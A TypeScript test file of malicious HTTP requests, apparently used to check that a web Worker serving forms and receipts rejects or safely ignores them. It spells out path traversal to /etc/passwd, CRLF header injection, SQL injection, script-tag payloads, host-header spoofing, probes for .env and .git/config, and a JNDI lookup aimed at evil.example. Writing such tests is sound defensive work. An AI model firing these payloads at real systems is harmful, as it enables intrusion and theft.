// Request lines and headers: wrong methods, tricks with paths and queries, and hosts that are not ours.
import type { RequestCase } from './case.ts'

const missing = (title: string, path: string): RequestCase => ({ title, path, status: 404 })
const found = (title: string, path: string, headers: Readonly<Record<string, string>> = {}): RequestCase => ({
  title,
  path,
  headers,
  status: 200,
})
const method = (name: string, path: string): RequestCase => ({
  title: `${name} ${path}`,
  method: name,
  path,
  status: 405,
})

const FORM = '/f/iko-2026-2'
const METHODS = ['PUT', 'DELETE', 'PATCH', 'OPTIONS', 'TRACE', 'PROPFIND']
const ROUTES = ['/', '/healthz', '/n/rumah-inklusi', FORM, '/s/x.y', '/r/x.y']

const methods: readonly RequestCase[] = [
  ...METHODS.flatMap((name) => ROUTES.map((path) => method(name, path))),
  method('POST', '/'),
  method('POST', '/healthz'),
  method('POST', '/n/rumah-inklusi'),
  method('POST', '/s/x.y'),
  method('POST', '/r/x.y'),
  { title: 'POST to a form that is not there', method: 'POST', path: '/f/lain', status: 404 },
  { title: 'HEAD of a form', method: 'HEAD', path: FORM, status: 200 },
  { title: 'HEAD of a receipt that is not there', method: 'HEAD', path: '/s/x.y', status: 404 },
]

const paths: readonly RequestCase[] = [
  missing('a way up', '/f/../../../etc/passwd'),
  missing('a way up in escapes', '/f/..%2f..%2fetc%2fpasswd'),
  missing('a way up in escapes twice over', '/f/..%252f..%252fetc'),
  missing('a way up with backslashes', '/f/..\\..\\etc'),
  missing('a way up in bytes too long', '/f/%c0%ae%c0%ae/'),
  missing('NUL', '/f/%00'),
  missing('NUL behind a form', `${FORM}%00`),
  missing('a line end behind a form', `${FORM}%0d%0aSet-Cookie:%20x=1`),
  missing('a byte that begins nothing', '/f/%ff'),
  missing('a broken escape', '/f/%ZZ'),
  missing('an escape cut short', '/f/%E0%A4%A'),
  missing('half a character', '/f/%ED%A0%80'),
  missing('10,000 letters', `/f/${'a'.repeat(10_000)}`),
  missing('10,000 slashes', `/f${'/'.repeat(10_000)}`),
  missing('10,000 escapes', `/f/${'%41'.repeat(10_000)}`),
  missing('two slashes', '/f//iko-2026-2'),
  missing('two slashes first', 'https://simpul.test//evil.example'),
  missing('two slashes and a way up', 'https://simpul.test//evil.example/..'),
  missing('an address in the path', '/https://evil.example/'),
  missing('a slash behind a form', `${FORM}/`),
  missing('a slash in escapes behind a form', `${FORM}%2f`),
  missing('a query in escapes', `${FORM}%3flang=en`),
  missing('a parameter in the path', `${FORM};lang=en`),
  missing('a space behind a form', `${FORM}%20`),
  missing('a file of a form', `${FORM}.json`),
  missing('a form in capitals', '/f/IKO-2026-2'),
  missing('the forms, in capitals', '/F/iko-2026-2'),
  missing('a form by SQL', "/f/'%20or%20'1'='1"),
  missing('a form by a pattern', '/f/%25'),
  missing('a form by a star', '/f/*'),
  missing('a form named like what every object has', '/f/__proto__'),
  missing('a form by markup', '/f/<script>alert(1)</script>'),
  missing('no form', '/f/'),
  missing('the forms', '/f'),
  missing('no receipt', '/s/'),
  missing('no report', '/r/'),
  missing('a network by markup', '/n/"><script>alert(1)</script>'),
  missing('a network by its number', '/n/01900000-0000-7000-8000-000000000001'),
  missing('a file of the Worker', '/src/index.ts'),
  missing('the settings', '/wrangler.toml'),
  missing('a secret', '/.env'),
  missing('a folder of git', '/.git/config'),
  missing('a page of administration', '/admin'),
  found('a form with a letter in escapes', '/f/%69ko-2026-2'),
  found('a form with a fragment', `${FORM}#"><script>alert(1)</script>`),
]

const queries: readonly RequestCase[] = [
  found('a language that is not there', `${FORM}?lang=xx`),
  found('a language in capitals', `${FORM}?lang=EN`),
  found('a language repeated', `${FORM}?lang=xx&lang=en`),
  found('a language of markup', `${FORM}?lang="><script>alert(1)</script>`),
  found('a language of line ends', `${FORM}?lang=en%0d%0aSet-Cookie:%20x=1`),
  found('a language of a broken escape', `${FORM}?lang=%ZZ`),
  found('a language of a byte that begins nothing', `${FORM}?lang=%ff`),
  found('a language of NUL', `${FORM}?lang=%00`),
  found('a language of 10,000 letters', `${FORM}?lang=${'e'.repeat(10_000)}`),
  found('a language named like what every object has', `${FORM}?lang=__proto__`),
  found('a language as a list', `${FORM}?lang[]=en&lang[0]=en`),
  found('a language without value', `${FORM}?lang`),
  found('a query of marks', `${FORM}?&&=&=?%`),
  found('a query of 5,000 fields', `${FORM}?${'x=1&'.repeat(5000)}`),
  found('fields of the form in the query', `${FORM}?organisation=<b>evil.example</b>&results=4`),
  found('an address to go on to', `${FORM}?next=https://evil.example&redirect=//evil.example`),
]

const headers: readonly RequestCase[] = [
  found('another host', FORM, { Host: 'evil.example' }),
  found('another host before us', FORM, {
    'X-Forwarded-Host': 'evil.example',
    Forwarded: 'host=evil.example',
  }),
  found('another address before us', FORM, {
    'X-Original-URL': '/evil.example',
    'X-Rewrite-URL': '/evil.example',
    'X-Forwarded-Proto': 'http',
    'X-Forwarded-Prefix': '//evil.example',
  }),
  found('another method in a header', FORM, { 'X-HTTP-Method-Override': 'DELETE', 'X-Method': 'DELETE' }),
  found('another origin', FORM, { Origin: 'https://evil.example', Referer: 'https://evil.example/' }),
  found('a wish for another site to read', FORM, {
    Origin: 'https://evil.example',
    'Access-Control-Request-Method': 'POST',
  }),
  found('an address of markup', FORM, { 'CF-Connecting-IP': '<script>alert(1)</script>' }),
  found('an address of SQL', FORM, { 'CF-Connecting-IP': "203.0.113.7'; drop table rounds; --" }),
  found('several addresses', FORM, { 'CF-Connecting-IP': '203.0.113.7, 2001:db8::1, evil.example' }),
  found('an address with a host', FORM, { 'CF-Connecting-IP': '2001:db8::1]@evil.example/[' }),
  found('an address of 10,000 groups', FORM, { 'CF-Connecting-IP': 'a:'.repeat(10_000) }),
  found('a type nobody has', FORM, { Accept: 'evil/example' }),
  found('types of marks', FORM, { Accept: ';;q=;,*/*;q=x,,' }),
  found('10,000 types', FORM, { Accept: 'a/b,'.repeat(10_000) }),
  found('markup for a type', FORM, { Accept: '<script>alert(1)</script>' }),
  found('an encoding nobody has', FORM, { 'Accept-Encoding': 'evil, ;;q=x' }),
  found('10,000 encodings', FORM, { 'Accept-Encoding': 'gzip,'.repeat(10_000) }),
  found('a language in a header', FORM, { 'Accept-Language': '"><script>alert(1)</script>' }),
  found('a cookie of markup', FORM, { Cookie: 'x=<script>alert(1)</script>; __proto__=1' }),
  found('a piece of the page', FORM, { Range: 'bytes=0-9999999999999999999999' }),
  found('a moment that is none', FORM, { 'If-Modified-Since': 'kemarin', 'If-None-Match': '*' }),
  found('a browser of markup', FORM, {
    'User-Agent': '<script>alert(1)</script> \u0024{jndi:ldap://evil.example}',
  }),
]

export const requests: readonly RequestCase[] = [...methods, ...paths, ...queries, ...headers]
